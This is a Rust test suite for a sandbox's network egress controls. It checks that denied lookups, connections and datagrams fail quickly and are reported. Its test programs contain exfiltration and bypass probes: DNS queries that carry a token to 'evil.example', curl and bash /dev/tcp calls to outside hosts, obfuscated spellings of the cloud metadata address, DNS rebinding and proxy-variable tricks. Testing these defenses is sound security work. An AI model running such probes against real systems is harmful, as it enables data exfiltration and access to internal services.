//! What is not allowed is not reached, is not even asked about, and says so at once.

use std::time::Duration;

use super::in_each_tier;
use super::support::jail::{Jail, Ran};
use super::support::patience;

/// What a run was denied, as `kind what`.
fn denied(ran: &Ran) -> Vec<String> {
    let denials = ran.verdict["denials"].as_array().cloned().unwrap_or_default();
    let word = |denial: &serde_json::Value, key: &str| denial[key].as_str().unwrap_or_default().to_owned();
    denials.iter().map(|denial| format!("{} {}", word(denial, "kind"), word(denial, "what"))).collect()
}

/// C17, C24: what is not allowed is no question to anybody, in whatever way it is asked.
#[test]
fn c17_c24_a_name_that_is_not_allowed_is_never_asked_for_outside() {
    in_each_tier(|world, place| {
        let token = &place.token;
        let program = format!(
            r#"
import socket, struct
def ask(name, kind, server, tcp):
    labels = b''.join(bytes([len(part)]) + part for part in name.split(b'.'))
    message = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)
    s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((server, 53))
    s.sendall((struct.pack('>H', len(message)) if tcp else b'') + message)
    reply = s.recv(4096)
    reply = reply[2:] if tcp else reply
    return struct.unpack('>H', reply[2:4])[0] & 15, struct.unpack('>H', reply[6:8])[0]
good, evil = b'good.example', b'{token}.evil.example'
for server in ('127.0.0.1', '127.0.0.53', '8.8.8.8', '45.90.0.2', '::1', '2a0c:1::2'):
    for tcp in (False, True):
        assert ask(good, 1, server, tcp) == (0, 1), (server, tcp)
        for name in (evil, b'{token}.good.example', b'{token}', b'good.example\0.evil.example', b'127.0.0.1'):
            for kind in (1, 28, 16, 10, 15, 255, 12):
                code, answers = ask(name, kind, server, tcp)
                assert (code, answers) == (3, 0), (server, tcp, name, kind, code, answers)
        for kind in (16, 10, 15, 65, 33):
            assert ask(good, kind, server, tcp) == (0, 0), kind
print('asked')
"#
        );
        let ran = world.python(place, "web", &program);
        assert_eq!(ran.text(), "asked", "{}", ran.whole());
        assert!(denied(&ran).contains(&format!("look_up {token}.evil.example")), "{:?}", denied(&ran));
        let fetched = world.bash(place, "web", &format!("curl -sS http://good.example/{token}control"));
        assert_eq!(fetched.code, Some(0), "{}", fetched.whole());
        assert!(world.saw("dns good.example") && world.saw(&format!("/{token}control")));
        let leaked: Vec<String> = world
            .log()
            .lines()
            .filter(|line| line.starts_with("dns") && line.contains(token.as_str()))
            .map(str::to_owned)
            .collect();
        assert_eq!(leaked, [""; 0]);
    });
}

#[test]
fn what_is_denied_is_denied_at_once_in_the_clients_own_language() {
    in_each_tier(|world, place| {
        let script = "t() { local s=$(date +%s%N); \"$@\"; echo \" rc $? $(( ($(date +%s%N) - s) / 1000000 ))\"; }; \
            t curl -sS http://evil.example/; t curl -sS http://151.101.0.1/; t curl -sS https://151.101.0.1/; \
            t curl -sS http://good.example:81/; t curl -sS http://bad.wild.example/; \
            t bash -c 'exec 3<>/dev/tcp/151.101.0.1/7000 && read -r line <&3'";
        let runs = [(); 3].map(|()| world.bash(place, "web", script));
        let times = |ran: &Ran| -> Vec<u64> {
            ran.text().lines().filter_map(|line| line.rsplit_once(' ')?.1.parse().ok()).collect()
        };
        // A busy machine can be slow once; a wait of ours would be there each time.
        let all: Vec<Vec<u64>> = runs.iter().map(times).collect();
        assert!(all.iter().all(|times| times.len() == 6), "{}", runs[0].whole());
        let most = u64::try_from(patience(Duration::from_millis(1000)).as_millis()).expect("small");
        assert!((0..6).all(|index| all.iter().any(|times| times[index] < most)), "{all:?}");
        let ran = &runs[0];
        let text = ran.text();
        assert!(text.contains("\"host\":\"151.101.0.1\"") && text.contains("nothing allows it"), "{text}");
        assert!(ran.error_text().contains("alert access denied"), "{}", ran.whole());
        let denied = denied(ran);
        for what in [
            "look_up evil.example",
            "connect 151.101.0.1:80",
            "connect 151.101.0.1:443",
            "connect good.example:81",
            "look_up bad.wild.example",
        ] {
            assert!(denied.iter().any(|one| one == what), "{what}: {denied:?}");
        }
        let lines = ran.own_lines();
        assert!(lines.iter().any(|line| line.contains("denied: look up `evil.example`")), "{lines:?}");
        assert!(lines.iter().any(|line| line.contains("hint: ") && line.contains("out of `deny`")), "{lines:?}");
        let remedies = ran.verdict["denials"].to_string();
        assert!(remedies.contains("`151.101.0.1:80`"), "each denial has its remedy in the verdict: {remedies}");
        assert!(!world.log().contains("::ffff:151.101.0.1"), "{}", world.log());
    });
}

/// C2, C3, C22: every way to write an address that is no part of the public network, under a profile that allows all addresses.
#[test]
fn c2_c3_c22_no_spelling_of_a_special_address_gets_anywhere() {
    in_each_tier(|world, place| {
        let program = r#"
import socket
def reach(host, port):
    try:
        with socket.create_connection((host, port), timeout=5) as c:
            c.settimeout(5)
            c.sendall(b'\x01')
            return c.recv(9) or b'closed'
    except OSError as error:
        return type(error).__name__
hosts = ['169.254.169.254', '10.1.2.3', '192.168.7.7', '100.64.0.9', '45.90.0.1', '2a0c:1::1', '::ffff:169.254.169.254',
    '::ffff:10.1.2.3', '::ffff:a01:203', '::ffff:45.90.0.1', '64:ff9b::a01:203', '2002:a01:203::1', 'fd00:ec2::254', 'fe80::1', '2852039166',
    '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '167838211', '10.66051', '0.0.0.0', '240.0.0.1', '198.18.1.0', 'fd00:c1a0::100']
for host in hosts:
    for port in (80, 7000, 8099):
        got = reach(host, port)
        # What is not reached ends in nothing, and nothing is heard.
        assert got in ('ConnectionResetError', 'ConnectionRefusedError', 'OSError', b'closed', 'gaierror', 'PermissionError'), (host, port, got)
print(reach('93.184.216.35', 7000)[:5].decode())
"#;
        let before = world.log().lines().count();
        let ran = world.python(place, "everything", program);
        assert_eq!(ran.text(), "hello", "{}", ran.whole());
        let since: Vec<String> = world.log().lines().skip(before).map(str::to_owned).collect();
        for special in ["::ffff:10.1.2.3 7000", "169.254.169.254", "192.168.7.7", "100.64.0.9", "home"] {
            assert!(!since.iter().any(|line| line.contains(special)), "{special}: {since:?}");
        }
        assert!(world.saw("echo ::ffff:93.184.216.35 7000"));
    });
}

/// C3, C4: an allowed name leads to public addresses alone, and to what was judged.
#[test]
fn c3_c4_an_allowed_name_that_turns_to_a_special_address_leads_nowhere() {
    in_each_tier(|world, place| {
        let ran = world.bash(
            place,
            "web",
            "for host in private loop meta shared own mapped alias; do for port in 7000 8099; do \
             timeout 5 bash -c \"exec 3<>/dev/tcp/$host.example/$port; head -c5 <&3\"; done; done 2>/dev/null; \
             head -c5 < /dev/tcp/good.example/7000",
        );
        assert_eq!(ran.text(), "hello", "{}", ran.whole());
        for host in [
            "private.example:7000 (10.1.2.3)",
            "loop.example:8099 (",
            "meta.example:7000 (169.254.169.254)",
            "own.example:8099 (",
        ] {
            assert!(
                denied(&ran).iter().any(|one| one.starts_with(&format!("connect {host}"))),
                "{host}: {:?}",
                denied(&ran)
            );
        }
        assert!(!world.log().contains("home"), "{}", world.log());
    });
}

#[test]
fn c4_a_name_that_turns_with_each_answer_never_reaches_the_host() {
    in_each_tier(|world, place| {
        let ran = world.bash(
            place,
            "web",
            "for i in 1 2 3 4; do timeout 5 bash -c 'exec 3<>/dev/tcp/rebind.example/8099; head -c5 <&3' 2>/dev/null; \
             timeout 5 bash -c 'exec 3<>/dev/tcp/rebind.example/7000; head -c5 <&3' 2>/dev/null; sleep 1.1; done; echo",
        );
        assert!(ran.text().contains("hello"), "{}", ran.whole());
        assert!(denied(&ran).iter().any(|one| one.contains("(127.0.0.1)")), "{:?}", denied(&ran));
        assert!(!world.log().contains("home"), "{}", world.log());
    });
}

/// C5: a port belongs to its rule.
#[test]
fn c5_another_port_of_an_allowed_host_is_denied() {
    in_each_tier(|world, place| {
        let ran = world.bash(
            place,
            "web",
            "exec 2>/dev/null; for target in 45.90.0.2/9000 45.90.0.2/22 good.example/8099 pinned.example/7000 10.1.2.3/7000; do \
             timeout 5 bash -c \"exec 3<>/dev/tcp/$target; head -c5 <&3\"; done; timeout 5 bash -c 'exec 3<>/dev/tcp/good.example/22; head -c5 <&3'",
        );
        assert_eq!(ran.text(), "hello", "{}", ran.whole());
        assert_eq!(denied(&ran).iter().filter(|one| one.starts_with("connect")).count(), 5, "{:?}", denied(&ran));
    });
}

/// C8, C16: whatever a variable says, there is no way but the gate's.
#[test]
fn c8_c16_a_proxy_that_somebody_names_is_a_host_like_any_other() {
    in_each_tier(|world, place| {
        let script = "curl -sS -o /dev/null -w '%{http_code}' http://good.example/; export http_proxy=http://151.101.0.1:7000 ALL_PROXY=socks5h://151.101.0.1:7000; \
                      curl -sS -m 5 -o /dev/null -w '%{http_code}' http://good.example/; curl -sS -m 5 --noproxy '*' -o /dev/null -w '%{http_code}' http://good.example/";
        let ran = world.bash(place, "web", script);
        assert_eq!(ran.text(), "200403200", "{}", ran.whole());
        assert!(denied(&ran).contains(&"connect 151.101.0.1:7000".to_owned()), "{:?}", denied(&ran));
    });
}

/// QUIC, time, and a way out of two datagrams: no UDP leaves, and a program knows at once.
#[test]
fn no_datagram_leaves_and_who_sends_one_is_told_at_once() {
    in_each_tier(|world, place| {
        let program = "import socket, time\n\
             for host in ('93.184.216.34', '45.90.0.2', '2a0c:2::34', '255.255.255.255', '224.0.0.251'):\n\
             \x20   for port in (443, 123, 9000):\n\
             \x20       s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)\n\
             \x20       begun = time.monotonic()\n\
             \x20       try:\n\
             \x20           s.sendto(b'x', (host, port)); print('sent to', host)\n\
             \x20       except PermissionError:\n\
             \x20           assert time.monotonic() - begun < 0.5\n\
             print(socket.gethostbyname('good.example').startswith('198.18.'))\n";
        let ran = world.python(place, "web", program);
        assert_eq!(ran.text(), "True", "{}", ran.whole());
        assert!(!world.log().contains("udp "), "{}", world.log());
        for what in ["93.184.216.34:443", "45.90.0.2:123", "2a0c:2::34:9000"] {
            assert!(denied(&ran).contains(&format!("send {what}")), "{what}: {:?}", denied(&ran));
        }
        assert!(ran.own_lines().iter().any(|line| line.contains("denied: send to `")), "{:?}", ran.own_lines());
    });
}

#[test]
fn a_tier_without_namespaces_refuses_a_profile_with_egress() {
    in_each_tier(|world, place| {
        let jail = Jail::new(place).profile("web").option("--tier").option("bare");
        let ran = jail.finish(world.start(place, &jail, &["true"]));
        // The last of two words for a tier would win, if it were accepted.
        assert!(matches!(ran.code, Some(126 | 2)), "{}", ran.whole());
    });
}
